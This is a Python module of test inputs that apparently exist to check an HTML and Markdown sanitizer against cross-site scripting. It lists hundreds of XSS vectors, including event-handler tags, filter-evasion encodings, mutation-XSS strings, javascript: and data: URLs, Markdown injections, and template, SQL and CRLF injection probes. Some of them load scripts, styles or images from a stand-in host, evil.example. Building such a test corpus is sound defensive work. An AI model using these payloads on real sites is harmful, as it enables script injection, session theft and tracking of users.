"""What attackers write to have script run in others' browsers. Each calls xss() if it does.

The classes are those of OWASP's filter evasion and DOM clobbering cheat sheets, of PortSwigger's list of events, of the
mutations that were found in DOMPurify, and of what Markdown renderers were caught with; the last are about this program.
"""

CALL = "xss()"

# Events that fire by themselves, with what makes them.
EVENTS = [
    f"<{element} {event}={CALL}{rest}>"
    for element, event, rest in (
        ("img src=/nothing", "onerror", ""), ("img src=/static/style.css", "onerror", " alt=x"), ("image src=/nothing", "onerror", ""),
        ("svg", "onload", ""), ("body", "onload", ""), ("body", "onpageshow", ""), ("body", "onfocus", ""), ("body", "onhashchange", ""),
        ("body", "onresize", ""), ("body", "onscroll", ""), ("body", "onmessage", ""), ("body", "onunload", ""), ("frameset", "onload", ""),
        ("iframe", "onload", ""), ("iframe src=/hello", "onload", ""), ("object data=/hello", "onload", ""), ("embed src=/hello", "onload", ""),
        ("object data=/nothing", "onerror", ""), ("script src=/nothing", "onerror", "></script"), ("link rel=stylesheet href=/static/style.css", "onload", ""),
        ("link rel=stylesheet href=/nothing", "onerror", ""), ("style", "onload", "></style"), ("input autofocus", "onfocus", ""),
        ("select autofocus", "onfocus", ""), ("textarea autofocus", "onfocus", ""), ("button autofocus", "onfocus", ">x</button"),
        ("a href=# autofocus", "onfocus", ">x</a"), ("div tabindex=0 autofocus", "onfocus", ">x</div"), ("xss contenteditable autofocus", "onfocus", ">x</xss"),
        ("input autofocus", "onblur", "><input autofocus"), ("details open", "ontoggle", "><summary>x</summary></details"),
        ("video src=/nothing", "onerror", ""), ("video", "onloadstart", "><source src=/nothing></video"), ("video><source", "onerror", " src=/nothing"),
        ("audio src=/nothing", "onerror", ""), ("audio src=/nothing", "onloadstart", ""), ("track src=/nothing", "onerror", ""),
        ("marquee", "onstart", ">x</marquee"), ("marquee loop=1 width=0", "onfinish", ">x</marquee"), ("keygen autofocus", "onfocus", ""),
        ("isindex type=image src=/nothing", "onerror", ""), ("input type=image src=/nothing", "onerror", ""), ("dialog open", "onclose", ""),
        ("div popover id=x", "onbeforetoggle", ">x</div"), ("p style=animation-name:x", "onanimationstart", ">x</p"),
        ("p style=content-visibility:auto", "oncontentvisibilityautostatechange", ">x</p"), ("table background=/nothing", "onerror", ""),
    )
]

# Events that a visitor makes.
GESTURES = [
    f"<{element} {event}={CALL}>x</{element}>"
    for element in ("a", "b", "p", "div", "xss")
    for event in ("onclick", "onmouseover", "onpointerenter", "ontouchstart", "oncopy", "onwheel")
]

# How an attribute is written, past filters that read HTML otherwise than browsers do.
SPELLINGS = [
    f"<svg/onload={CALL}>", f"<svg\tonload={CALL}>", f"<svg\nonload={CALL}>", f"<svg\fonload={CALL}>", f"<svg\ronload={CALL}>",
    f"<svg onload\t=\n{CALL}>", f"<sVg OnLoAd={CALL}>", f"<svg onload='{CALL}'>", f'<svg onload="{CALL}">', f"<svg onload=`{CALL}`>",
    f"<svg/x=\">\"/onload={CALL}//", f"<svg onload={CALL}", f"<svg onload={CALL}<b>", f"<<svg onload={CALL}>>", f"< svg onload={CALL}>",
    f"</svg onload={CALL}>", f"<svg onload=xss&lpar;&rpar;>", "<svg onload=&#120;ss()>", "<svg onload=&#x78&#x73&#x73()>",
    "<svg onload=&#0000120ss()>", "<svg onload=\\u0078ss()>", "<svg onload=window['x'+'ss']()>", "<svg onload=top[/x/.source+/ss/.source]``>",
    "<svg onload=eval(atob('eHNzKCk='))>", "<svg onload=location='javascript:xss()'>", "<svg onload=setTimeout`xss\\x28\\x29`>",
    f"<img src='1' onerror\x0b={CALL}>", f"<img/src=x\0 onerror={CALL}>", f"<im\0g src=x onerror={CALL}>", f"<\0svg onload={CALL}>",
    f"<svg on\0load={CALL}>", f"\x01<svg onload={CALL}>\x02", f"<img \x01src=x \x01onerror={CALL}>", f"<img src=x:x onerror={CALL} //",
    f"<img \"\"\"><script>{CALL}</script>\">", f"<a\"/onclick=({CALL})>x", f"\ufeff<svg onload={CALL}>", f"\u2028<svg onload={CALL}>",
    f"＜svg onload={CALL}＞", f"‹svg onload={CALL}›", f"&lt;svg onload={CALL}&gt;", f"&amp;lt;svg onload={CALL}&amp;gt;",
    f"&#60;svg onload={CALL}&#62;", f"&#x3c;svg onload={CALL}&#x3e;", f"&LT;svg onload={CALL}&GT;", f"%3Csvg onload={CALL}%3E",
    f"\\x3csvg onload={CALL}\\x3e", f"\\u003csvg onload={CALL}\\u003e", f"+ADw-svg onload={CALL}+AD4-", f"&lt<svg onload={CALL}>",
]

SCRIPTS = [
    f"<script>{CALL}</script>", f"<SCRIPT>{CALL}</SCRIPT>", f"<script >{CALL}</script >", f"<script\n>{CALL}</script\n>", f"<script/x>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>", f"<script>{CALL}//", f"<script>{CALL}<!--", f"<script><!--\n{CALL}\n//--></script>",
    f"<script type=module>{CALL}</script>", f"<script src=data:,{CALL}></script>", "<script src=//evil.example/x.js></script>",
    "<script src=https://evil.example/x.js></script>", f"<script nomodule>{CALL}</script>", f"<noscript><script>{CALL}</script>",
    f"</title><script>{CALL}</script>", f"</textarea><script>{CALL}</script>", f"</style><script>{CALL}</script>",
    f"</script><script>{CALL}</script>", f"--><script>{CALL}</script>", f"]]><script>{CALL}</script>", f"?><script>{CALL}</script>",
    f"</p></div></article></section></main><script>{CALL}</script>", f"\"><script>{CALL}</script>", f"'><script>{CALL}</script>",
    f"\" autofocus onfocus={CALL} x=\"", f"' autofocus onfocus={CALL} x='", f"` autofocus onfocus={CALL} x=`", f" autofocus onfocus={CALL} ",
    f"\" onerror={CALL} src=\"x", f"x\" onmouseover=\"{CALL}", f"x' onmouseover='{CALL}", f"\\\"><svg onload={CALL}>", f"javascript:{CALL}",
    f"<template shadowrootmode=open><script>{CALL}</script></template>", f"<script>import('data:text/javascript,{CALL}')</script>",
    f"<script type=speculationrules>{{\"prefetch\":[{{\"source\":\"list\",\"urls\":[\"https://evil.example/\"]}}]}}</script>",
]

# Documents in documents, and what changes the page around the text.
ELEMENTS = [
    f"<iframe src=javascript:{CALL}>", f"<iframe srcdoc='<script>parent.{CALL}</script>'>", "<iframe src=//evil.example>",
    f"<iframe src='data:text/html,<script>parent.{CALL}</script>'>", f"<object data=javascript:{CALL}>", f"<embed src=javascript:{CALL}>",
    f"<object data='data:text/html,<script>{CALL}</script>'>", f"<embed src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{CALL}\"/>'>",
    f"<form action=javascript:{CALL}><input type=submit autofocus></form>", f"<button formaction=javascript:{CALL}>x</button>",
    f"<form><input type=submit formaction=//evil.example>", f"<input form=x formaction=javascript:{CALL} type=submit>", f"<isindex action=javascript:{CALL} type=image>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Set-Cookie content=flaskr=x>", "<meta name=referrer content=unsafe-url>", "<base href=//evil.example/>",
    f"<base href=javascript:/a/-{CALL}/><a href=#>x</a>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example>",
    "<link rel=dns-prefetch href=//evil.example>", "<link rel=import href=//evil.example>", f"<link rel=stylesheet href='data:text/css,*{{x:expression({CALL})}}'>",
    f"<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example/x)}</style>", f"<style>*{{behavior:url(javascript:{CALL})}}</style>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={CALL}></b>", f"<p style=\"background:url(javascript:{CALL})\">x</p>",
    f"<p style=\"width:expression({CALL})\">x</p>", "<p style=\"position:fixed;inset:0;background:red\">x</p>", "<img src=//evil.example/x.png>",
    "<img srcset='//evil.example/x.png 1x'>", "<picture><source srcset=//evil.example/x.png><img></picture>", "<video poster=//evil.example/x.png>",
    "<audio src=//evil.example/x.mp3 autoplay>", "<input type=image src=//evil.example/x.png>", "<table background=//evil.example/x.png><td>x",
    "<body background=//evil.example/x.png>", f"<img src=javascript:{CALL}>", f"<img dynsrc=javascript:{CALL}>", f"<bgsound src=javascript:{CALL}>",
    f"<layer src=javascript:{CALL}>", f"<xml src=javascript:{CALL}>", f"<applet code=javascript:{CALL}>", "<portal src=//evil.example>", "<a ping=//evil.example href=/>x</a>",
    "<plaintext>", "<textarea>", "<title>", "<!--", "<!-- x", "<![CDATA[", "<?xml", "<!doctype html><html><body>", "</body></html>", "<select><option>", "<xmp>",
    "<noembed>", "<noframes>", "<template>", "<frameset><frame src=//evil.example>", "<form id=x><input name=attributes>", "<img name=cookie><img name=body>",
    "<a id=defaultView><a id=defaultView name=x href=//evil.example>", "<input name=title id=title autofocus>", "<dialog open>x</dialog>",
]

SVG_AND_MATH = [
    f"<svg><script>{CALL}</script></svg>", f"<svg><script href=data:,{CALL} /></svg>", f"<svg><script xlink:href=data:,{CALL} /></svg>",
    f"<svg><script>x&#115;s()</script></svg>", f"<svg><a xlink:href=javascript:{CALL}><text y=20>x</text></a></svg>", f"<svg><a href=javascript:{CALL}><rect width=99 height=99 /></a></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>", f"<svg><animate onend={CALL} attributeName=x dur=1ms>", f"<svg><set onbegin={CALL} attributeName=x>",
    f"<svg><animatetransform onbegin={CALL} attributeName=x>", f"<svg><animatemotion onbegin={CALL}>", f"<svg><discard onbegin={CALL}>",
    f"<svg><a><animate attributeName=href values=javascript:{CALL} /><text y=20>x</text></a></svg>", f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><image href=\"1\" onerror=\"{CALL}\"/></svg>#x' /></svg>",
    f"<svg><foreignObject><iframe onload={CALL}></foreignObject></svg>", f"<svg><image href=/nothing onerror={CALL}></svg>", "<svg><image href=//evil.example/x.png></svg>",
    f"<svg><style>*{{background:url(//evil.example/x)}}</style></svg>", f"<svg><title><script>{CALL}</script></title></svg>", f"<svg><desc><![CDATA[</desc><script>{CALL}</script>]]></svg>",
    f"<math href=javascript:{CALL}>x</math>", f"<math><a xlink:href=javascript:{CALL}>x", f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>x", f"<math><mtext><script>{CALL}</script>",
    f"<math><annotation-xml encoding=text/html><svg onload={CALL}></annotation-xml></math>",
]

# What is harmless until it is parsed a second time.
MUTATIONS = [
    f"<noscript><p title=\"</noscript><img src=/nothing onerror={CALL}>\">", f"<svg></p><style><a id=\"</style><img src=/nothing onerror={CALL}>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=/nothing onerror={CALL}&gt;\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=/nothing onerror={CALL}>", f"<svg><p><style><g title=\"</style><img src=/nothing onerror={CALL}>\">",
    f"<a title=\"`<img src=/nothing onerror={CALL}>\">", f"<listing>&lt;img src=/nothing onerror={CALL}&gt;</listing>", f"<xmp><p title=\"</xmp><svg onload={CALL}>\">",
    f"<textarea><p title=\"</textarea><svg onload={CALL}>\">", f"<title><p title=\"</title><svg onload={CALL}>\">", f"<!--><svg onload={CALL}>-->", f"<!--!><svg onload={CALL}>-->",
    f"<!-- --!><svg onload={CALL}>", f"<![><svg onload={CALL}>]>", f"<!x \"><svg onload={CALL}>\">", f"<?x \"><svg onload={CALL}>\"?>", f"<%x \"><svg onload={CALL}>\"%>", f"</ x><svg onload={CALL}>",
    f"<select><template><svg onload={CALL}></template></select>", f"<table><svg onload={CALL}><td>", f"<option><style></option></select><img src=/nothing onerror={CALL}></style>",
    f"<svg><annotation-xml><foreignobject><style><!--</style><p id=\"--><img src=/nothing onerror={CALL}>\">", f"<p id='</p><svg onload={CALL}>'>", f"<iframe><p title=\"</iframe><svg onload={CALL}>\">",
]

# Addresses that run, as filters of schemes fail to see them.
ADDRESSES = [
    f"javascript:{CALL}", f"JavaScript:{CALL}", f"JAVASCRIPT:{CALL}", f" javascript:{CALL}", f"java\tscript:{CALL}", f"java\nscript:{CALL}", f"java\r\nscript:{CALL}",
    f"\x01javascript:{CALL}", f"\x1fjavascript:{CALL}", f"\0javascript:{CALL}", f"java\0script:{CALL}", f"javascript\t:{CALL}", f"javascript:\n{CALL}", f"javascript://%0a{CALL}",
    f"javascript://evil.example/%0d{CALL}", f"javascript&colon;{CALL}", f"javascript&#58;{CALL}", f"javascript&#x3a;{CALL}", f"&#106;avascript:{CALL}", f"&#x6A;avascript:{CALL}",
    f"&#0000106avascript:{CALL}", f"java&Tab;script:{CALL}", f"java&NewLine;script:{CALL}", f"java&#9;script:{CALL}", f"java&#10;script:{CALL}", f"java&#0;script:{CALL}", f"&#1;javascript:{CALL}",
    f"javascript\\:{CALL}", f"\\javascript:{CALL}", f"javascript%3a{CALL}", f"%6aavascript:{CALL}", f"javascript:%78ss()", f"jav\u00adascript:{CALL}", f"\u00a0javascript:{CALL}", f"\u3000javascript:{CALL}",
    f"\u2028javascript:{CALL}", f"ｊavascript:{CALL}", f"javaſcript:{CALL}", f"vbscript:{CALL}", f"livescript:{CALL}", f"mocha:{CALL}", f"view-source:javascript:{CALL}", f"feed:javascript:{CALL}", f"jar:javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>", "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==", f"data:image/svg+xml,<svg onload={CALL}>", f"data:,{CALL}", f"data:text/html&comma;<script>{CALL}</script>",
    "blob:https://evil.example/x", "file:///etc/passwd", "filesystem:http://evil.example/x", "about:blank", "intent://x#Intent;end", "\\\\evil.example\\x", "ws://evil.example", "ftp://evil.example",
    f"x:javascript:{CALL}", f"//javascript:{CALL}", f"https://evil.example/\"onmouseover={CALL}", f"https://evil.example/'onmouseover={CALL}", f"https://evil.example/<svg onload={CALL}>", f"https://x\" onerror=\"{CALL}",
]

MARKDOWN = [
    f"[x](javascript:{CALL} \"t\")", f"[x](/ \"t\\\" onmouseover={CALL} x=\\\"\")", f"[x](/ 't\" onmouseover={CALL}')", f"[x](</\" onmouseover={CALL}>)", f"[x](/(\" onmouseover={CALL}))",
    f"![x\" onerror=\"{CALL}](/nothing)", f"![x](/nothing\"onerror=\"{CALL})", f"![x](/nothing \"t\\\" onerror={CALL}\")", f"![x](x onerror={CALL})", f"![<svg onload={CALL}>](/images/x)", "![x](//evil.example/x.png)",
    "![x](https://evil.example/x.png)", f"![x](data:image/svg+xml,<svg/onload={CALL}>)", f"[![x](javascript:{CALL})](javascript:{CALL})", f"[x]: javascript:{CALL}\n\n[x] [x][] [y][x]", f"[x]: <javascript:{CALL}> \"t\"\n\n[x]",
    f"![x]\n\n[x]: javascript:{CALL}", f"[x]: /\"onmouseover={CALL}\n\n[x]", f"[x]: / \"\\\"><svg onload={CALL}>\"\n\n[x]", f"<javascript:{CALL}>", f"<JAVASCRIPT:{CALL}>", f"<data:text/html,{CALL}>", f"<x:\"onclick={CALL}>",
    f"<https://evil.example/\"onmouseover={CALL}>", f"<a@b.c\"onmouseover={CALL}>", f"https://evil.example/\"onmouseover={CALL}", f"https://evil.example/'><svg/onload={CALL}>", f"http://evil.example/?x=<script>{CALL}</script>",
    f"www.evil.example/\"onmouseover={CALL}", f"a@b.c\"onmouseover={CALL}", f"`<svg onload={CALL}>", f"``<svg onload={CALL}>` ``", f"```\" onload={CALL} x=\"\ncode", f"```html\n</code></pre><svg onload={CALL}>\n```", f"~~~ x\"><svg/onload={CALL}>\ncode",
    f"```javascript\n</span><script>{CALL}</script>\n```", f"```<svg/onload={CALL}>\nx\n```", "```mermaid\nclick A href \"javascript:xss()\"\n```", f"    <svg onload={CALL}>", f"> <svg onload={CALL}>\n<script>{CALL}</script>",
    f"- <svg onload={CALL}>\n\n  <script>{CALL}</script>", f"# <svg onload={CALL}>", f"# x {{onclick={CALL}}}", f"# x {{#\"><svg/onload={CALL}>}}", f"|<svg onload={CALL}>|\n|-|\n|<script>{CALL}</script>|", f"|a|\n|:\"onload={CALL}-:|\n|b|",
    f"|`|<svg onload={CALL}>`|\n|-|-|", f"x[^\"><svg/onload={CALL}>]\n\n[^\"><svg/onload={CALL}>]: y", f"x[^x\"onclick={CALL}]\n\n[^x\"onclick={CALL}]: <svg onload={CALL}>", f"[^javascript:{CALL}]\n\n[^javascript:{CALL}]: x", f"- [x\"><svg/onload={CALL}>] x",
    f"- [ ] <svg onload={CALL}>", f"~~<svg onload={CALL}>~~", f"*<b onclick={CALL}>*", f"**x<script>**{CALL}**</script>**", f"<div>\n\n*x*\n<svg onload={CALL}>\n\n</div>", f"<svg\n\nonload={CALL}>", f"\\<svg onload={CALL}>", f"\\\\<svg onload={CALL}>",
    f"<!--\n\n--><svg onload={CALL}>", f"<pre>\n<svg onload={CALL}>", f"[x]({CALL}\n)<svg onload={CALL}>", f"[x](<javascript:{CALL})", f"[a](<b)c><svg/onload={CALL}>", f"&lt;svg onload={CALL}&gt; <!-- -->", f"$\\href{{javascript:{CALL}}}{{x}}$", f"[[javascript:{CALL}]]",
    f"==<svg onload={CALL}>==", f"::: x onload={CALL}\nx\n:::", f"![x](/nothing){{onerror={CALL}}}", f"[x](/){{onclick={CALL}}}", f"<details open ontoggle={CALL}>\n\nx\n\n</details>", f"Term\n: <svg onload={CALL}>", f"*[x]: \"><svg onload={CALL}>\n\nx",
]

# Signs that mean something to this program: marks of who sees what, its templates, its queries.
OURS = [
    "<?user 1?>x<?everybody?>", "<?moderator?>x<?everybody?>", "<?anonymous?>", "<?everybody?>", "<?username?>", "<?liked 1?>", "<?user 1 or moderator?>", "&lt;?username?&gt;", "<?username", "<?\nusername?>", f"<?username?><svg onload={CALL}>",
    "{{ 7 * 7 }}", "{{ __tera_context }}", "{{ post | safe }}", "{% raw %}", "{% include \"base.html\" %}", "{# x", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('xss()')()}}", "[[${7*7}]]", "<x ng-app ng-csp>{{$eval.constructor('xss()')()}}</x>",
    "<b>\u202exss\u202c", "\u202e\u2066<svg>", "\U0001f600<svg onload=xss()>\U0001f600", "한글<svg onload=xss()>한글", "' OR '1'='1", "..%2f..%2f", "\r\nSet-Cookie: x=y\r\n\r\n<svg onload=xss()>", "/images/00000000000000000000000000000000.svg\" onerror=xss() x=\"",
]


def in_elements(address):
    """An address in each place where Markdown and HTML take one."""
    return [f"[x]({address})", f"<a href=\"{address}\">x</a>"]


HTML = EVENTS + GESTURES + SPELLINGS + SCRIPTS + ELEMENTS + SVG_AND_MATH + MUTATIONS
VECTORS = list(dict.fromkeys(HTML + [text for address in ADDRESSES for text in in_elements(address)] + MARKDOWN + OURS))
